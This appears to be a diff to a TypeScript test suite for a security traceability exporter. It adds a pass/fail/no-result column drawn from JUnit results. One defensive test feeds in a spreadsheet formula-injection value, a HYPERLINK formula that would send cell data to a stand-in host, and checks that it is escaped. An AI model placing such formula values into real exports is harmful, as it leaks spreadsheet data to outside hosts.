@@ -49,29 +49,30 @@ describe('traceability', () => {
       control: 'CTL-HASH',
       controlTitle: 'Hash check, then install',
       verification: 'VT-1; VT-2',
+      result: 'no result',
     });
   });
 
   it('writes RFC 4180 CSV: header row, CRLF, quoted fields with commas, quotes and line breaks', () => {
-    const row: TraceRow = { requirement: 'SR-1', requirementText: 'Say "no", then stop\nnow', phase: 'operation', threat: '', threatTitle: '', control: 'C', controlTitle: 'a,b', verification: '' };
+    const row: TraceRow = { requirement: 'SR-1', requirementText: 'Say "no", then stop\nnow', phase: 'operation', threat: '', threatTitle: '', control: 'C', controlTitle: 'a,b', verification: '', result: 'no result' };
     assert.equal(
       traceabilityCsv([row]),
-      'Requirement,Requirement text,Phase,Threat,Threat title,Control,Control title,Verification\r\n' + 'SR-1,"Say ""no"", then stop\nnow",operation,,,C,"a,b",\r\n',
+      'Requirement,Requirement text,Phase,Threat,Threat title,Control,Control title,Verification,Result\r\n' + 'SR-1,"Say ""no"", then stop\nnow",operation,,,C,"a,b",,no result\r\n',
     );
   });
 
   it('neutralises cells a spreadsheet would run as a formula (=, +, -, @, tab, CR first) with a leading quote', () => {
-    const row: TraceRow = { requirement: '=HYPERLINK("http://x.example/?"&A1,"open")', requirementText: '+1+cmd', phase: '-2', threat: '@SUM(A1)', threatTitle: '\t=1', controlTitle: '\r=1', control: 'CTL-1', verification: 'a=b' };
+    const row: TraceRow = { requirement: '=HYPERLINK("http://x.example/?"&A1,"open")', requirementText: '+1+cmd', phase: '-2', threat: '@SUM(A1)', threatTitle: '\t=1', controlTitle: '\r=1', control: 'CTL-1', verification: 'a=b', result: 'pass' };
     const [, line] = traceabilityCsv([row]).split('\r\n');
-    assert.equal(line, `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'+1+cmd,'-2,'@SUM(A1),'\t=1,CTL-1,"'\r=1",a=b`);
+    assert.equal(line, `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'+1+cmd,'-2,'@SUM(A1),'\t=1,CTL-1,"'\r=1",a=b,pass`);
   });
 
   it('writes a Markdown table with pipes escaped', () => {
     const [row] = traceabilityRows(indexOf({ 'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    text: "A | B"\n' }));
     const lines = traceabilityMarkdown([row]).trimEnd().split('\n');
-    assert.equal(lines[0], '| Requirement | Requirement text | Phase | Threat | Threat title | Control | Control title | Verification |');
-    assert.equal(lines[1], '|---|---|---|---|---|---|---|---|');
-    assert.equal(lines[2], '| SR-1 | A \\| B |  |  |  |  |  |  |');
+    assert.equal(lines[0], '| Requirement | Requirement text | Phase | Threat | Threat title | Control | Control title | Verification | Result |');
+    assert.equal(lines[1], '|---|---|---|---|---|---|---|---|---|');
+    assert.equal(lines[2], '| SR-1 | A \\| B |  |  |  |  |  |  | no result |');
   });
 
   it('builds the tree threat → controls → requirements → verification ids, with locations', () => {
@@ -88,5 +89,17 @@ describe('traceability', () => {
     assert.deepEqual(tree[0].location, { uri: 'file:///ws/tm.yaml', range: { start: { line: 2, character: 8 }, end: { line: 2, character: 12 } } });
     assert.equal(tree[0].children[0].location!.uri, 'file:///ws/arch.md');
     assert.equal(tree[0].children[0].children[0].children[0].location, undefined, 'verification ids have no location');
+  });
+
+  it('says pass, fail or no result per requirement from the JUnit results, in the rows and the tree', () => {
+    const index = indexOf({
+      'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    threats: [TH-1]\n    verification: [VT-1]\n  - id: SR-2\n    verification: [VT-2]\n  - id: SR-3\n    verification: [VT-3]\n',
+      'tm.yaml': 'kind: threat-model\nthreats:\n  - id: TH-1\n',
+      'junit.xml': '<testsuite><testcase name="VT-1 ok"/><testcase name="VT-2 bad"><failure message="no"/></testcase></testsuite>',
+    });
+    assert.deepEqual(traceabilityRows(index).map((row) => [row.requirement, row.result]), [['SR-1', 'pass'], ['SR-2', 'fail'], ['SR-3', 'no result']]);
+    const [threat] = traceabilityTree(index);
+    assert.equal(threat.children[0].label, 'SR-1 [pass]');
+    assert.equal(threat.children[0].children[0].label, 'VT-1 — pass');
   });
 });
